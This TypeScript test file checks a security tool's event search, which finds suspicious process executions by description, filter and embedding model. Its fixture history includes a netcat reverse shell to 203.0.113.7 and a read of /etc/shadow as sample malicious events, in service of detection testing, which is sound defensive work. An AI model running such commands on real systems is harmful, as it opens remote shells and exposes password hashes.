import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import type { ExecutionEvent } from '@vedette/core';
import { ExecutionScorer, shapeOf } from '@vedette/executions';

import type { EventPage, EventQuery, EventRow } from '../store/events/event-store.ts';
import type { Embedder } from './embeddings/embedder.ts';
import { createSearch, type Search } from './search-events.ts';

const NOW_MS = Date.UTC(2026, 0, 10);
const HOUR_MS = 3_600_000;

/** What happened, as `workload host hours-ago score line`. */
const HISTORY = [
  'web web-1 30 0 php-fpm: pool www',
  'web web-1 20 0 ls -l /srv/www',
  'web web-1 3 0.97 nc -e /bin/sh 203.0.113.7 4444',
  'web web-2 2 0.98 nc -e /bin/sh 203.0.113.7 4444',
  'db db-1 4 0.9 cat /etc/shadow',
  'db db-1 1 0 pg_dump shop',
];

const events = HISTORY.map((line) => {
  const [workload = '', host = '', hours, score, ...argv] = line.split(' ');
  const event: ExecutionEvent = {
    ...{ t: NOW_MS - Number(hours) * HOUR_MS, host, workload, pid: 7, ppid: 1, uid: 0 },
    ...{ comm: argv[0] ?? '', parent: 'sh', exe: argv[0] ?? '', argv, kind: 'exec' as const },
  };
  return { event, score: Number(score) };
});

const rows: readonly EventRow[] = events.map(({ event, score }, index) => ({
  ...{ org: 'acme', position: 1, index, receivedMs: event.t, event, shape: shapeOf(event).key },
  ...{ score, p: null, state: 'watching', threshold: 0.8, reasons: [], nearest: null },
  finding: null,
}));

/** The events of the history, listed as a store does. */
async function list(query: EventQuery): Promise<EventPage> {
  const fits = ({ event, score, shape }: EventRow): boolean =>
    event.t >= query.fromMs &&
    (query.shapes === undefined || query.shapes.includes(shape ?? '')) &&
    (query.momentsMs === undefined || query.momentsMs.includes(event.t)) &&
    (query.workload === undefined || query.workload === event.workload) &&
    (query.host === undefined || query.host === event.host) &&
    (query.minScore === undefined || (score ?? 0) >= query.minScore);
  const found = rows.filter(fits).toSorted((a, b) => b.event.t - a.event.t);
  return { rows: found.slice(0, query.limit), next: found.length > query.limit ? 'more' : null };
}

function searchOfHistory(embedder: Embedder | null = null): Search {
  const scorer = new ExecutionScorer({ prior: null });
  for (const { event } of events) scorer.learn(event);
  return createSearch({
    events: { list },
    embedder,
    log: () => undefined,
    nowMs: () => NOW_MS,
    shapes: function* (org) {
      if (org !== 'acme') return;
      for (const { name: workload, baseline } of scorer.workloads())
        for (const record of baseline.shapes) yield { workload, record };
    },
  });
}

describe('a search', () => {
  const search = searchOfHistory();
  const hosts = async (question: string, org = 'acme'): Promise<string[]> => {
    const { results } = await search.find({ org, question, limit: 10 });
    return results.map(({ row }) => `${row.event.host} ${row.event.argv[0]}`);
  };

  test('finds the newest execution of what behaves like it', async () => {
    assert.deepEqual((await hosts('anything that looks like a reverse shell'))[0], 'web-2 nc');
    assert.deepEqual((await hosts('who read the password hashes'))[0], 'db-1 cat');
  });

  test('keeps to its filters', async () => {
    assert.deepEqual(await hosts('reverse shell host:web-1'), ['web-1 nc']);
    assert.deepEqual(await hosts('reverse shell workload:d*'), []);
    assert.deepEqual(await hosts('reverse shell last:90m'), []);
    assert.deepEqual(await hosts('score:>0.95'), ['web-2 nc', 'web-1 nc']);
    assert.deepEqual(await hosts('score:>0.8 -workload:web'), ['db-1 cat']);
  });

  test('finds nothing of another organisation, and nothing for nothing', async () => {
    assert.deepEqual(await hosts('reverse shell', 'other'), []);
    assert.deepEqual(await hosts('   '), []);
  });

  test('says how it was understood', async () => {
    const question = 'score:high reverse shell';
    const { query } = await search.find({ org: 'acme', question, limit: 1 });
    assert.equal(query.text, question);
    assert.equal(query.notes.length, 1);
  });
});

describe('a search with a model', () => {
  test('finds what has none of the words, and says by what', async () => {
    const gate = Promise.withResolvers<void>();
    const embed = async (texts: readonly string[]): Promise<Float32Array[]> => {
      if (texts.length > 1) await gate.promise;
      return texts.map((text) => Float32Array.of(...(/nc|zzyzx/.test(text) ? [1, 0] : [0, 1])));
    };
    const search = searchOfHistory({ name: 'one', embed });
    const ask = () => search.find({ org: 'acme', question: 'zzyzx', limit: 10 });
    assert.deepEqual(
      (await searchOfHistory().find({ org: 'acme', question: 'zzyzx', limit: 10 })).results,
      [],
    );
    // The first question has the vectors made; none waits for them.
    let answer = await ask();
    assert.match(answer.modelNotes.join(), /has not seen yet 5 of 5 commands/);
    gate.resolve();
    for (let at = 0; at < 100 && answer.modelNotes.length > 0; at += 1) answer = await ask();
    const { results, query, modelNotes } = answer;
    assert.deepEqual(
      results.map(({ row }) => row.event.argv[0]),
      ['nc'],
    );
    assert.deepEqual(results[0]?.why, ['the model finds it like the question']);
    assert.deepEqual([query.notes, modelNotes], [[], []]);
  });

  test('that does not work is one without, and says so', async () => {
    const embed = (): Promise<never> => Promise.reject(new Error('no'));
    const question = 'reverse shell';
    const [plain, broken] = await Promise.all(
      [null, { name: 'broken', embed }].map((embedder) =>
        searchOfHistory(embedder).find({ org: 'acme', question, limit: 10 }),
      ),
    );
    assert.deepEqual(broken?.results, plain?.results);
    assert.match(broken?.modelNotes.join() ?? '', /does not work \(no\).* by words alone/);
    assert.deepEqual(broken?.query.notes, []);
  });
});
